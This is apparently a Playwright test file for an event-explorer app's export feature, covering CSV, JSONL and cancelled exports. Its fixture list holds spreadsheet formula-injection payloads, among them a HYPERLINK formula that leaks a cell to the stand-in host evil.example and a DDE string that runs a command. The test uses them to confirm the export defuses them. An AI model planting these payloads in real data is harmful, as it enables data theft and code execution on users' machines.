import type { RawEvent } from '../../lib/sample-org/raw-event';
import { rawEvent, smallOrg } from '../fixtures/atlassian';
import { connect, untilFilled } from '../fixtures/connect';
import { drawnRows, eventGrid, expectTotal } from '../fixtures/explorer';
import { expectNothingOnDisk, parseCsv, saved } from '../fixtures/export-file';
import { openView, pastDays } from '../fixtures/filter';
import { expect, test } from '../fixtures/test';

const day = 86_400_000;
const mark = '\uFEFF';
const timeOf = ({ attributes: { time } }: RawEvent) => new Date(time).toISOString();

/** People whose names a spreadsheet would run, or part into cells. */
const hostile = [
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '+49 30 123',
  'Doe, "Jane"\r\n=1+1',
  '\t=1+1',
  'مريم حسن',
  'Kit 🚚 Ferreira',
];

test('everything under a filter is written as CSV, in order, harmless, and as JSONL, untouched', async ({
  orgwatch,
  fake,
  org,
}) => {
  const at = Math.floor(Date.now() / day) * day - 2 * day;
  const pushed = hostile.map((name, i) =>
    rawEvent(`hostile-${i}`, {
      time: new Date(at + i * 1000).toISOString(),
      actor: { id: `hostile-${i}`, name },
      location: { ip: '203.0.113.7', countryName: 'Germany', city: name },
    }),
  );
  fake.push(org.id, pushed, at + day / 2);
  const page = await connect(orgwatch, org, { depthDays: 30 });
  await untilFilled(page);
  const { range, events } = pastDays(org, 14);
  await openView(page, 'explore', { range, filter: 'country = DE' });
  const wanted = events.filter(({ attributes: { location } }) => location?.countryName === 'Germany');
  expect(wanted.length).toBeGreaterThan(100);
  await expectTotal(page, wanted.length);

  await page.getByRole('button', { name: 'Export', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'Export events' });
  await expect(dialog).toContainText(`${wanted.length} events will be written.`);
  await dialog.getByRole('radio', { name: 'All', exact: true }).check();
  await dialog.getByRole('checkbox', { name: 'Byte order mark' }).check();
  const start = dialog.getByRole('button', { name: 'Export', exact: true });
  const csv = await saved(page, () => start.click());
  expect(csv.name).toBe(`orgwatch-events-${range.replace('..', '-to-')}.csv`);
  await expect(dialog.getByRole('status')).toContainText(`${wanted.length} events were written to ${csv.name}.`);
  const text = csv.bytes.toString('utf8');
  expect(text.startsWith(mark)).toBe(true);
  const [titles = [], ...records] = parseCsv(text.slice(1));
  expect(records).toHaveLength(wanted.length);
  const column = (title: string) => {
    const index = titles.indexOf(title);
    expect(index, title).toBeGreaterThanOrEqual(0);
    return records.map((record) => record[index] ?? '');
  };
  expect(column('Time (UTC)')).toEqual(wanted.map(timeOf));
  const facts = (of: readonly string[][]) => of.map((values) => values.join(' | ')).toSorted();
  const told = ['Time (UTC)', 'Actor ID', 'Action ID', 'Country code', 'IP address'].map(column);
  expect(facts(records.map((_, i) => told.map((values) => values[i] ?? '')))).toEqual(
    facts(
      wanted.map((event) => {
        const { actor, action, location } = event.attributes;
        return [timeOf(event), actor?.id ?? '', action, 'DE', location?.ip ?? ''];
      }),
    ),
  );
  const runs = records.flat().filter((cell) => /^\s*[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
  expect(runs).toEqual([]);
  const ids = column('Actor ID');
  const names = column('Actor');
  const nameOf = (i: number) => names[ids.indexOf(`hostile-${i}`)];
  expect(nameOf(0)).toBe(`'${hostile[0]}`);
  expect(nameOf(6)).toBe(hostile[6]);
  expect(nameOf(7)).toBe(hostile[7]);
  await dialog.getByRole('button', { name: 'Close' }).last().click();

  // As shown: the table's own rows are the first of the file.
  const shown = [...(await drawnRows(eventGrid(page))).entries()];
  for (const [row, [time, actor = '']] of shown.slice(0, 10)) {
    expect(Date.parse(`${time} UTC`)).toBe(Math.floor(Date.parse(column('Time (UTC)')[row] ?? '') / 1000) * 1000);
    expect(names[row]?.replace(/^'/, '')).toBe(actor);
  }

  await page.getByRole('button', { name: 'Export', exact: true }).click();
  await expect(dialog.getByRole('checkbox', { name: 'Byte order mark' })).toBeChecked();
  await dialog.getByRole('checkbox', { name: 'Byte order mark' }).uncheck();
  const bare = await saved(page, () => start.click());
  const [shownTitles] = parseCsv(bare.bytes.toString('utf8'));
  expect(shownTitles?.[0]).toBe('Time (UTC)');
  expect(shownTitles).not.toContain('City');
  await dialog.getByRole('button', { name: 'Close' }).last().click();

  await page.getByRole('button', { name: 'Export', exact: true }).click();
  await dialog.getByRole('radio', { name: 'JSONL, untouched events' }).check();
  const jsonl = await saved(page, () => start.click());
  const lines = jsonl.bytes.toString('utf8').split('\n');
  expect(lines.pop()).toBe('');
  const parsed = lines.map((line) => JSON.parse(line) as RawEvent);
  expect(parsed.map(timeOf)).toEqual(wanted.map(timeOf));
  expect(lines.toSorted()).toEqual(wanted.map((event) => JSON.stringify(event)).toSorted());
});

test.describe('of many events', () => {
  test.use({ atlassian: { orgs: [smallOrg({ eventsPerDay: 400 })] } });

  test('an export that is cancelled leaves nothing', async ({ orgwatch, org }) => {
    test.slow();
    const page = await connect(orgwatch, org, { depthDays: 30 });
    await untilFilled(page);
    const { range, events } = pastDays(org, 21);
    await openView(page, 'explore', { range });
    await expectTotal(page, events.length);
    let downloads = 0;
    page.on('download', () => {
      downloads++;
    });
    await page.getByRole('button', { name: 'Export', exact: true }).click();
    const dialog = page.getByRole('dialog', { name: 'Export events' });
    await dialog.getByRole('radio', { name: 'JSONL, untouched events' }).check();
    // A slow machine, so that there is time to change one's mind.
    const session = await orgwatch.context.newCDPSession(page);
    await session.send('Emulation.setCPUThrottlingRate', { rate: 20 });
    await dialog.getByRole('button', { name: 'Export', exact: true }).click();
    // At its beginning the bar has no width, and so is not visible.
    await expect(dialog.getByRole('progressbar', { name: 'Exporting events' })).toBeAttached();
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await session.send('Emulation.setCPUThrottlingRate', { rate: 1 });
    await expect(dialog.getByRole('status')).toContainText('The export was cancelled.');
    await expectNothingOnDisk(page);
    expect(downloads).toBe(0);
    const whole = await Promise.all([
      page.waitForEvent('download'),
      dialog.getByRole('button', { name: 'Export', exact: true }).click(),
    ]);
    expect(whole[0].suggestedFilename()).toMatch(/\.(csv|jsonl)$/);
  });
});
